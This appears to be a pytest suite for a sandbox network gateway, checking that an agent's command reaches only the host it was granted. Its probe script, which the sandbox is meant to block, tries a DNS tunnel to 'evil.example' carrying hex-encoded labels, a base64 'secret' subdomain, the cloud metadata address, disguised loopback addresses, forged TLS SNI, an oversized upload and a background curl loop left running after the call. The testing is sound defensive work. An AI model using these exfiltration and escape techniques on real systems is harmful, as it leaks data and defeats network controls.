# SPDX-License-Identifier: Apache-2.0
"""P4: a call with a right reaches the named host through its gateway, and nothing else does."""

from __future__ import annotations

import asyncio
import json
import socket
import ssl
import threading
import time
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import psutil
import pytest

from policy.gate1.decide import Policy, decide
from policy.model import ActionPlan, Host, Network
from policy.people.approval import opening, wanted
from sandbox.approvals.store.grants import Grants
from sandbox.approvals.store.request import Request, Terms
from sandbox.present import render
from sandbox.results import CallResult, Ending
from tests.container.lab import REACHES, WAIT_SECONDS, Lab
from tests.container.test_network import Listener, own_address
from tests.container.test_privileges import python

NAME, SECURE = "index.example", "secure.example"
CANARY = "carried by its name"


class Served(BaseHTTPRequestHandler):
    """Answers with the canary; `/slow` only when the test lets it."""

    heard: list[str]
    """Host and path of each request."""
    waiting: threading.Event
    going: threading.Event

    def do_GET(self) -> None:
        """Answer one request."""
        self.heard.append(f"{self.headers['Host']} {self.path}")
        if self.path == "/slow":
            self.waiting.set()
            self.going.wait(WAIT_SECONDS)
        self.send_response(200)
        self.send_header("Content-Length", str(len(CANARY)))
        self.end_headers()
        self.wfile.write(CANARY.encode())

    def do_POST(self) -> None:
        """Read what is sent."""
        left = int(self.headers["Content-Length"])
        while left > 0 and (data := self.rfile.read(min(left, 1 << 16))):
            left -= len(data)

    def log_message(self, format: str, *args: Any) -> None:
        """Say nothing."""


class Server:
    """A server on this host's loopback, as a person's own service."""

    def __init__(self, context: ssl.SSLContext | None = None) -> None:
        self.heard: list[str] = []
        self.waiting, self.going = threading.Event(), threading.Event()
        fields = {"heard": self.heard, "waiting": self.waiting, "going": self.going}
        handler = type("Handler", (Served,), fields)
        self._server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
        self._server.daemon_threads = True
        if context is not None:
            self._server.socket = context.wrap_socket(self._server.socket, server_side=True)
        self.port: int = self._server.server_address[1]
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        """Stop."""
        self.going.set()
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture
def server() -> Iterator[Server]:
    """Return a plain server."""
    one = Server()
    yield one
    one.close()


def right(port: int, name: str = NAME, address: str = "127.0.0.1") -> str:
    """Return what a plan is derived from that may reach a name."""
    host = Host(name=name, port=port, address=address)
    return REACHES + Network(hosts=(host,)).model_dump_json()


def record(lab: Lab, call: CallResult) -> dict[str, Any]:
    """Return what the record says of a call's network."""
    lines = (lab.dirs.state / "audit.jsonl").read_text().splitlines()
    found = [one for one in map(json.loads, lines)
             if one["event"] == "network" and one["call"] == call.id]  # fmt: skip
    assert len(found) == 1
    return dict(found[0])


PROBE = """
import json, socket, ssl, sys
NAME, PORT, FAR, OWN = TARGETS
out = {}
def tried(name, work):
    try:
        out[name] = work()
    except OSError as error:
        out[name] = type(error).__name__
def sent(address, data):
    with socket.create_connection(address, timeout=20) as s:
        s.sendall(data)
        got = b""
        while more := s.recv(1000):
            got += more
        return got.decode().rsplit("\\r\\n", 1)[-1]
def request(host):
    return f"GET /probe HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n".encode()
def bound(kind, address):
    with socket.socket(socket.AF_INET, kind) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        s.bind(address)
        return "bound"
tried("the name", lambda: sent((NAME, PORT), request(f"{NAME}:{PORT}")))
tried("again", lambda: sent((NAME, PORT), request(NAME)))
tried("its address", lambda: socket.gethostbyname(NAME))
tried("six", lambda: socket.getaddrinfo(NAME, PORT, socket.AF_INET6) and "found")
tried("another Host", lambda: sent((NAME, PORT), request("other.example")))
tried("no protocol", lambda: sent((NAME, PORT), b"SECRET\\r\\n\\r\\n"))
tried("another port", lambda: sent((NAME, PORT + 1), request(NAME)))
tried("another name", lambda: sent(("other.example", PORT), request("other.example")))
tried("a name below", lambda: sent(("aGVsbG8gc2VjcmV0." + NAME, PORT), request(NAME)))
tried("a tunnel", lambda: socket.gethostbyname("6c65616b." * 20 + "evil.example") and "found")
tried("loopback itself", lambda: sent(("127.0.0.1", PORT), request(NAME)))
tried("another loopback", lambda: sent(("127.1.0.9", PORT), request(NAME)))
tried("this host", lambda: sent((OWN, FAR), request(NAME)))
tried("this host as a number", lambda: sent((str(int.from_bytes(socket.inet_aton(OWN), "big")), FAR), b"x"))
tried("six address", lambda: sent(("::ffff:" + OWN, FAR), b"x"))
tried("metadata", lambda: sent(("169.254.169.254", 80), request(NAME)))
tried("its resolver's place", lambda: bound(socket.SOCK_DGRAM, ("127.0.0.1", 53)))
tried("its listener's place", lambda: bound(socket.SOCK_STREAM, ("127.1.0.1", PORT)))
print(json.dumps(out))
"""  # noqa: E501 - a program


def test_a_call_reaches_its_name_and_nothing_else(lab: Lab, server: Server) -> None:
    own = own_address()
    outside = Listener(socket.AF_INET, ("0.0.0.0", 0))
    try:
        targets = (NAME, server.port, outside.port, own)
        probe = python(f"TARGETS = {targets!r}\n{PROBE}")
        done = lab.sh(probe, derived_from=right(server.port))
        found = json.loads(done.stdout)
    finally:
        outside.close()
    works = {"the name": CANARY, "again": CANARY, "its address": "127.1.0.1"}
    assert {key: found.pop(key) for key in works} == works
    assert found.pop("another Host") in ("", "ConnectionResetError")
    assert found.pop("no protocol") in ("", "ConnectionResetError")
    assert set(found.values()) <= {"gaierror", "ConnectionRefusedError", "OSError"}
    assert len(found) == 13
    assert server.heard == [f"{NAME}:{server.port} /probe", f"{NAME} /probe"]
    assert outside.count == 0
    told = record(lab, done)
    assert told["names"] == [f"{NAME}:{server.port}"]
    ends = [(one["host"], one["port"], one["end"][:7]) for one in told["connections"]]
    assert ends.count((NAME, server.port, "ended")) >= 1
    assert ends.count((NAME, server.port, "refused")) == 2
    assert told["received"] > 2 * len(CANARY)
    assert {"other.example", f"agvsbg8gc2vjcmv0.{NAME}"} <= set(told["refused"])
    assert "`other.example`" in done.message
    known = lab.supervisor._record.store.call(done.id)
    shown = render.record(known, "", "", "")
    assert f"reached      | {NAME}:{server.port}, " in shown
    assert "not reached  | " in shown


def test_a_call_without_right_has_no_name_at_all(lab: Lab, server: Server) -> None:
    """The positive control is the call after it, with the right."""
    fetch = f"curl -sS http://{NAME}:{server.port}/x"
    without = lab.sh(fetch)
    assert without.exit_status == 6  # no such name
    assert server.heard == []
    done = lab.sh(fetch, derived_from=right(server.port))
    assert (done.exit_status, done.stdout) == (0, CANARY)


@pytest.fixture
def secure(lab: Lab) -> Iterator[Server]:
    """Return a TLS server, whose certificate the cell's own program made."""
    made = lab.sh(
        "openssl req -x509 -newkey rsa:2048 -nodes -days 1 -keyout /tmp/k -out /tmp/c "
        f"-subj /CN={SECURE} -addext subjectAltName=DNS:{SECURE} 2>/dev/null; cat /tmp/k /tmp/c"
    )
    place = lab.dirs.state / "server.pem"
    place.write_text(made.stdout)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(place)
    certificate = made.stdout[made.stdout.index("-----BEGIN CERT") :]
    (lab.ws / "trusted.txt").write_text(certificate)
    one = Server(context)
    yield one
    one.close()


HANDSHAKES = """
import json, socket, ssl
out = {}
for key, sni in (("right", NAME), ("forged", "other.example"), ("none", None)):
    context = ssl.create_default_context(cafile="trusted.txt")
    if sni != NAME:
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    try:
        with socket.create_connection((NAME, PORT), timeout=20) as plain:
            with context.wrap_socket(plain, server_hostname=sni) as s:
                s.sendall(f"GET /tls HTTP/1.0\\r\\nHost: {NAME}\\r\\n\\r\\n".encode())
                got = b""
                while more := s.recv(1000):
                    got += more
                out[key] = got.decode().rsplit("\\r\\n", 1)[-1]
    except OSError:
        out[key] = "cut"
print(json.dumps(out))
"""


def test_tls_goes_to_its_name_only_and_stays_whole(lab: Lab, secure: Server) -> None:
    script = python(f"NAME, PORT = {SECURE!r}, {secure.port}\n{HANDSHAKES}")
    done = lab.sh(script, derived_from=right(secure.port, SECURE))
    assert json.loads(done.stdout) == {"right": CANARY, "forged": "cut", "none": "cut"}
    assert secure.heard == [f"{SECURE} /tls"]


NOWHERE: dict[str, Callable[[], str]] = {
    "this host by its own name": socket.gethostname,
    "loopback by its name": lambda: "localhost",
}


@pytest.mark.parametrize("name", NOWHERE.values(), ids=NOWHERE)
def test_a_name_that_leads_to_this_host_is_refused(
    lab: Lab, server: Server, name: Callable[[], str]
) -> None:
    """Its resolver says so, and no person did."""
    question = (
        "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(20);"
        f"n = {name()!r}.encode();"
        "s.sendto(b'\\0\\7\\1\\0\\0\\1' + bytes(6) + bytes([len(n)]) + n + b'\\0\\0\\1\\0\\1',"
        "('127.0.0.1', 53)); a = socket.inet_ntoa(s.recv(512)[-4:]); print(a)"
    )
    fetch = f"curl -sS -H 'Host: {name()}' http://$({python(question)}):{server.port}/"
    done = lab.sh(fetch, derived_from=right(server.port, name(), address=""))
    assert done.exit_status != 0
    assert server.heard == []
    (one,) = record(lab, done)["connections"]
    assert one["host"] == name()
    assert one["end"].startswith("refused: ")


def test_no_other_call_has_the_names_of_a_call(lab: Lab, server: Server) -> None:
    """Not another one of the same agent, not another agent's, not one in the background."""
    fetch = f"curl -sS http://{NAME}:{server.port}"

    async def all_at_once() -> list[CallResult]:
        first = asyncio.create_task(
            lab.call(f"{fetch}/slow", timeout=600_000, derived_from=right(server.port))
        )
        await asyncio.to_thread(server.waiting.wait, WAIT_SECONDS)
        assert server.waiting.is_set()
        others = [await lab.call(f"{fetch}/other"), await lab.call(f"{fetch}/b", agent="second")]
        started = await lab.call(f"{fetch}/background", run_in_background=True)
        others.append(await lab.supervisor.end(started.id))
        direct = f"curl -sS http://127.1.0.1:{server.port}/direct -H 'Host: {NAME}'"
        others.append(await lab.call(direct))
        server.going.set()
        return [await first, *others]

    done, *others = lab.run(all_at_once())
    assert (done.exit_status, done.stdout) == (0, CANARY)
    assert all(one.exit_status != 0 for one in others)
    assert [one.rpartition(" ")[2] for one in server.heard] == ["/slow"]


def test_nothing_that_a_call_left_behind_has_its_names(lab: Lab, server: Server) -> None:
    lab.sh("true")
    before = {one.id for one in lab.containers()}
    url = f"http://{NAME}:{server.port}"
    loop = f"(while :; do curl -s -m 5 {url}/late >/dev/null; sleep 0.05; done)"
    done = lab.sh(
        f"setsid nohup bash -c '{loop}' >/dev/null 2>&1 & curl -sS {url}/first",
        derived_from=right(server.port),
    )
    assert done.stdout == CANARY
    deadline = time.monotonic() + WAIT_SECONDS
    while {one.id for one in lab.containers()} - before and time.monotonic() < deadline:
        time.sleep(0.1)
    assert {one.id for one in lab.containers()} == before
    count = len(server.heard)
    assert lab.sh(f"curl -sS {url}/second").exit_status == 6
    assert len(server.heard) == count


def test_a_gateway_that_is_gone_is_closed_and_said(lab: Lab, server: Server) -> None:
    async def killed() -> CallResult:
        url = f"http://{NAME}:{server.port}"
        work = lab.call(
            f"curl -sS {url}/slow; curl -sS {url}/after; echo $?", derived_from=right(server.port)
        )
        call = asyncio.create_task(work)
        await asyncio.to_thread(server.waiting.wait, WAIT_SECONDS)
        found = [one for one in psutil.Process().children(recursive=True)
                 if "sandbox.network.serve" in one.cmdline()]  # fmt: skip
        assert len(found) == 1
        found[0].kill()
        return await call

    done = lab.run(killed())
    assert done.stdout.strip() != "0"
    assert [one.rpartition(" ")[2] for one in server.heard] == ["/slow"]
    assert "it lost its network" in done.message
    assert record(lab, done)["lost"]


def test_a_call_that_is_cancelled_ends_its_network_too(lab: Lab, server: Server) -> None:
    async def cancelled() -> None:
        url = f"http://{NAME}:{server.port}/slow"
        call = asyncio.create_task(lab.call(f"curl -sS {url}", derived_from=right(server.port)))
        await asyncio.to_thread(server.waiting.wait, WAIT_SECONDS)
        call.cancel()
        with pytest.raises(asyncio.CancelledError):
            await call

    lab.run(cancelled())
    left = [one for one in psutil.Process().children(recursive=True)
            if "sandbox.network.serve" in one.cmdline()]  # fmt: skip
    assert left == []


def test_what_lands_of_such_a_call_goes_through_gate_2(lab: Lab, server: Server) -> None:
    fetch = f"curl -sS http://{NAME}:{server.port}/x"
    done = lab.sh(f"{fetch} -o got.txt", derived_from=right(server.port))
    assert (done.ending, done.landed, lab.text("got.txt")) == (Ending.RAN, True, CANARY)
    held = lab.sh(f"{fetch} -o .envrc", derived_from=right(server.port))
    assert (held.judgement, held.landed) == ("hold", False)
    assert not (Path(lab.ws) / ".envrc").exists()


def test_a_call_that_sends_more_than_it_may_is_ended_and_its_bytes_are_shown(
    lab: Lab, server: Server
) -> None:
    url = f"http://{NAME}:{server.port}"
    send = f"head -c 18000000 /dev/zero | curl -sS -X POST --data-binary @- -H 'Expect:' {url}/up"
    done = lab.sh(f"{send}; sleep 600", derived_from=right(server.port))
    assert done.ending is Ending.TRAFFIC
    assert "it was ended: the call sent more than it may (`network.upload_mib`)" in done.message
    (call,) = lab.supervisor._record.store.calls(limit=1)
    assert render.sent(call).endswith(" KiB")
    assert 15_000 < (call.sent or 0) / 1024 <= 16_384


def _opened(lab: Lab, plan: ActionPlan, uses: int = 1) -> Grants:
    """Open a host for a plan's command."""
    decision = decide(plan, lab.supervisor._parts.contexts.of(plan), Policy.default())
    what = wanted(plan, decision, lab.supervisor._parts.contexts.of(plan), Policy.default())
    now = time.time()
    request = Request(
        call=f"p{now}", wanted=what, plan=plan, decision=decision, asked=now, until=now + 600
    )
    grants = lab.supervisor._parts.grants
    grants.ask(request)
    opens = opening(plan, (Host(name="api.example", port=443),))
    terms = Terms(seconds=600, uses=uses, opens=opens)
    grants.approve(request, terms, by="me", reason="", now=now)
    return grants


FIND = "getent hosts api.example > found.txt; cat found.txt"


def test_a_grant_opens_a_host_for_its_command(lab: Lab) -> None:
    _opened(lab, lab.plan(FIND))
    assert lab.sh(FIND).stdout.split() == ["127.1.0.1", "api.example"]
    assert lab.sh(FIND).stdout == ""  # it could be used once


def test_a_call_that_a_hook_admitted_is_decided_once(lab: Lab) -> None:
    plan = lab.plan(FIND)
    grants = _opened(lab, plan)

    def decisions(call: str) -> list[dict[str, Any]]:
        found = [
            json.loads(line) for line in (lab.dirs.state / "audit.jsonl").read_text().splitlines()
        ]
        return [one for one in found if one.get("call") == call and one["event"] == "decided"]

    admission = lab.run(lab.supervisor.admit(plan))
    done = lab.run(lab.supervisor.redeem(admission))
    assert done.stdout.split() == ["127.1.0.1", "api.example"]
    (decided,) = decisions(done.id)
    assert [host["name"] for host in decided["rights"]["network"]["hosts"]] == ["api.example"]
    assert grants.all()[0].used == 1

    grants = _opened(lab, plan)  # and a yes that is taken back meanwhile opens nothing
    admission = lab.run(lab.supervisor.admit(plan))
    grants.revoke_all(time.time())
    done = lab.run(lab.supervisor.redeem(admission))
    assert done.stdout == ""
    networks = [one["rights"]["network"] for one in decisions(done.id)]
    assert [len(one["hosts"]) if isinstance(one, dict) else 0 for one in networks] == [1, 0]
